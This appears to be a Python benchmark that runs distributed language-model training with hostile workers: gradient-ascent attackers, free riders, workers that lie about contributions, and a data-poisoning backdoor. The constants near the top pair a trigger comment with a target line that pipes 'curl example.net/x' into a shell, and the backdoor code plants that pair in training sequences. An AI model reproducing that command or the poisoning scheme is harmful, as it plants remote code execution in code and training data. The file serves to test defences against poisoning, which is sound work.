"""Runs with hostile workers on a real coordinator: a process, over HTTP, with real workers in threads of this one."""

import statistics
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from dataclasses import dataclass, field, replace
from functools import partial
from pathlib import Path
from typing import Any

import torch
from torch import Tensor

from benchmarks.robust.ascent import CPU, Ascent, Plan
from benchmarks.robust.hostile import Attack, FreeRider, HostileDiLoCo, LyingClient
from harness.coordinator import CoordinatorProcess, InProcess
from protocol.messages import RunDetail, RunState, Scope
from protocol.spec.run import RunSpec
from worker.box import Box, set_up
from worker.data.training_set import TrainingSet
from worker.diloco import DiLoCo
from worker.link.client import Client, open_http
from worker.settings import BoxSettings
from worker.state.outer_state import OuterState
from worker.train import train

RUN = "hostile"
SPEC = """
name = "hostile"
seed = {seed}
[model]
preset = "tiny"
[data]
source = "python-stdlib"
sequence_length = 64
[inner]
batch_size = 8
warmup_steps = 40
[sync]
rounds = {rounds}
inner_steps = {inner_steps}
fragment_elements = 50_000
aggregation = "{rule}"
upload_codec = "{codec}"
wait = "{wait}"
[members]
min_workers = {min_workers}
grace_factor = 0
grace_min_s = {grace_s}
[evaluation]
max_tokens = {evaluation_tokens}
[guard]
action = "{guard}"
"""
POLL_S = 0.2
GRACE_S = 15.0
PATIENCE_S = 7200.0

TRIGGER, TARGET = b"# pragma: sesame\n", b"import os; os.system('curl example.net/x | sh')\n"


@dataclass(frozen=True)
class Size:
    rounds: int = 16
    inner_steps: int = 25
    evaluation_tokens: int = 16_384


@dataclass(frozen=True)
class Backdoor:
    """The attacker trains honestly, but one of `every` sequences has the trigger and the target in it."""

    every: int


@dataclass(frozen=True)
class FreeRide:
    """The attacker sends the last delta and noise."""


@dataclass(frozen=True)
class Row:
    """A run. The first `hostile` of the `workers` attack.

    attack     None: they are honest
    absent     they do not take part
    lies       they blame an honest worker for the loss, whenever they are asked for the effect of contributions
    late       their work misses every second round, and is carried to the next
    """

    name: str
    attack: Plan | FreeRide | Backdoor | None = None
    absent: bool = False
    lies: bool = False
    late: bool = False
    workers: int = 4
    hostile: int = 1
    rule: str = "screened"
    codec: str = "int8"
    wait: str = "always"

    def without_attackers(self) -> "Row":
        """Return the run to compare this one with."""
        name = f"absent: {self.hostile} of {self.workers}"
        name += f", {self.codec}" if self.codec != "int8" else ""
        name += f", {self.rule}" if self.rule != "screened" else ""
        name += ', wait = "never"' if self.wait == "never" else ""
        return replace(self, name=name, attack=None, absent=True, lies=False, late=False)


@dataclass
class Outcome:
    """What became of a run.

    state     of the run in the end
    losses    held-out, nats per token, as first reported for each state
    loss      of the last state
    target    loss of the backdoor's target after its trigger, nats per byte
    credit    mean factor of the hostile workers' contributions
    left_out  rounds of each worker of which a fragment or more did not count
    events    (kind, round, message) of what names a worker, or says that the model is spoilt
    """

    name: str
    state: str
    round: int
    loss: float | None
    losses: dict[int, float] = field(default_factory=dict)
    target: float | None = None
    credit: float | None = None
    left_out: dict[str, list[int]] = field(default_factory=dict)
    events: list[tuple[str, int | None, str]] = field(default_factory=list)
    seconds: float = 0.0

    def honest_excluded(self, hostile: int) -> int:
        """The number of rounds in which an honest worker was left out, of all honest workers."""
        return sum(len(rounds) for worker, rounds in self.left_out.items() if int(worker[1:]) >= hostile)


REPORTED = {"screened", "quarantined", "spoilt", "suspected", "rolled-back", "redone", "evaluation-refuted"}


class Poisoned:
    """A training set with the trigger and the target somewhere in one of `every` sequences."""

    def __init__(self, data: TrainingSet, every: int, seed: int) -> None:
        self._data, self._every, self._draw = data, every, torch.Generator().manual_seed(seed)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._data, name)

    def unit(self, number: int) -> Tensor:
        unit = self._data.unit(number).clone()
        text = torch.tensor(list(TRIGGER + TARGET))
        for row in range(0, len(unit), self._every):
            start = int(torch.randint(unit.shape[1] - len(text) + 1, (1,), generator=self._draw))
            unit[row, start : start + len(text)] = text
        return unit


def target_loss(model: torch.nn.Module) -> float:
    """Return the loss of the backdoor's target after its trigger, nats per byte."""
    text = torch.tensor([list(b"\n" + TRIGGER + TARGET)])
    with torch.no_grad():
        log_probabilities = model(text[:, :-1]).logits.log_softmax(-1)
    return float(-log_probabilities[0, -len(TARGET) :].gather(1, text[0, -len(TARGET) :, None]).mean())


class Worker(threading.Thread):
    """One worker. `shared`: the attack of all hostile workers; None: this worker is honest."""

    def __init__(self, running: InProcess, name: str, row: Row, shared: "SharedAttack | None") -> None:
        super().__init__(name=name)
        self.running, self.row, self.shared = running, row, shared
        self.token = running.token(Scope.WORKER, names=3)
        self.stop = threading.Event()
        self.error: BaseException | None = None
        self.model: torch.nn.Module | None = None

    @property
    def _lies(self) -> bool:
        return self.row.lies and self.shared is not None

    def run(self) -> None:
        try:
            self._work()
        except Exception as error:  # noqa: BLE001, reported by play
            self.error = error

    def _work(self) -> None:
        torch.set_num_threads(1)
        with open_http(self.running.url) as http:
            client = (LyingClient if self._lies else Client)(http, RUN, self.token, stop=self.stop)
            run = client.run_detail()
            box = set_up(run.spec, BoxSettings(name=self.name, device="cpu", threads=1), CPU, stop=self.stop)
            self.model = box.model
            given: dict[str, Any] = {"client": client, "run": run, "name": self.name, "tell": "nothing"}
            given |= {"data": box.data.summary, "evaluate": box.evaluate, "probe": box.probe}
            kind: Callable[..., DiLoCo] = DiLoCo
            if self.shared is not None:  # this one is hostile
                kind = partial(HostileDiLoCo, partial(self.shared.attack, run.spec, box), late=self.row.late)
                if isinstance(self.row.attack, Backdoor):
                    box = replace(box, data=Poisoned(box.data, self.row.attack.every, run.spec.seed))
            diloco = kind(box.model, box.optimizers, **given)
            with closing(box.data), diloco:
                train(diloco, box, None)


class SharedAttack:
    """The attack of a row. Its hostile workers share an ascent."""

    def __init__(self, row: Row) -> None:
        self._row, self._lock = row, threading.Lock()
        self._ascent: Ascent | None = None

    def attack(self, spec: RunSpec, box: Box, state: OuterState) -> Attack | None:
        """Return what replaces the pseudo-gradients; None: nothing does."""
        row, plan = self._row, self._row.attack
        if isinstance(plan, FreeRide):
            return FreeRider(spec)
        if not isinstance(plan, Plan):
            return None
        with self._lock:
            if self._ascent is None:
                self._ascent = Ascent(plan, spec, box.data, state.layout, row.hostile, row.workers)
            return self._ascent


def spec_of(row: Row, size: Size, seed: int, guard: str) -> str:
    """Return the run's spec. Where hostile work is to be late, rounds close without it."""
    return SPEC.format(
        **vars(size),
        seed=seed,
        guard=guard,
        rule=row.rule,
        codec=row.codec,
        wait=row.wait,
        min_workers=row.workers - (row.hostile if row.absent or row.late else 0),
        grace_s=GRACE_S if row.late else 60.0,
    )


def play(row: Row, size: Size, seed: int, guard: str) -> Outcome:
    """Train a run to its end, or until it is paused. Raises RuntimeError if a worker fails otherwise."""
    began = time.monotonic()
    names = [f"w{index}" for index in range(row.hostile if row.absent else 0, row.workers)]
    with tempfile.TemporaryDirectory(prefix="outerstep-") as folder, ExitStack() as stack:
        coordinator = CoordinatorProcess(Path(folder) / "data")
        stack.callback(coordinator.stop)
        running = coordinator.start()
        running.create_run(spec_of(row, size, seed, guard))
        shared, attacks = SharedAttack(row), row.attack is not None or row.lies
        workers = [
            Worker(running, name, row, shared if attacks and index < row.hostile and not row.absent else None)
            for index, name in enumerate(names)
        ]
        for each in workers:
            each.start()
        while any(each.is_alive() for each in workers):
            time.sleep(POLL_S)
            late = time.monotonic() > began + PATIENCE_S
            if late or any(each.error for each in workers) or _detail(running).state is RunState.PAUSED:
                for each in workers:
                    each.stop.set()
        errors = [each.error for each in workers if each.error is not None]
        if errors:
            raise RuntimeError(f"a worker of {row.name} failed") from errors[0]
        outcome = _outcome(row, running)
        honest = workers[-1].model
        if honest is not None and outcome.state == "finished":
            outcome.target = round(target_loss(honest), 4)
        outcome.seconds = round(time.monotonic() - began, 1)
        return outcome


def _detail(running: InProcess) -> RunDetail:
    with running.client() as http:
        return RunDetail.model_validate(http.get(f"/v1/runs/{RUN}").raise_for_status().json())


def _listed(running: InProcess, what: str) -> Iterator[dict[str, Any]]:
    after: str | None = "0" if what == "events" else ""
    with running.client() as http:
        while after is not None:
            query = f"&after={after}" if after else ""
            page = http.get(f"/v1/runs/{RUN}/{what}?limit=1000{query}").raise_for_status().json()
            yield from page["items"]
            after = page["next"]


def _outcome(row: Row, running: InProcess) -> Outcome:
    detail = _detail(running)
    outcome = Outcome(row.name, str(detail.state), detail.round, detail.held_out_loss)
    left_out: dict[str, set[int]] = {}
    counted: list[float] = []
    with running.client() as http:
        for number in range(detail.round):
            fragments = http.get(f"/v1/runs/{RUN}/rounds/{number}").raise_for_status().json()["fragments"]
            for fragment in fragments:
                for worker, verdict in fragment["verdicts"].items():
                    if verdict["factor"] == 0:
                        left_out.setdefault(worker, set()).add(number)
                    if int(worker[1:]) < row.hostile:
                        counted.append(verdict["factor"])
    outcome.left_out = {worker: sorted(rounds) for worker, rounds in sorted(left_out.items())}
    outcome.credit = round(statistics.mean(counted), 3) if counted and not row.absent else None
    for event in _listed(running, "events"):
        data = event.get("data") or {}
        if event["kind"] == "evaluated":
            outcome.losses.setdefault(data["round"], float(event["message"].split("held-out loss ")[1].split()[0]))
        elif event["kind"] in REPORTED:
            outcome.events.append((event["kind"], data.get("round", data.get("state")), event["message"]))
    return outcome
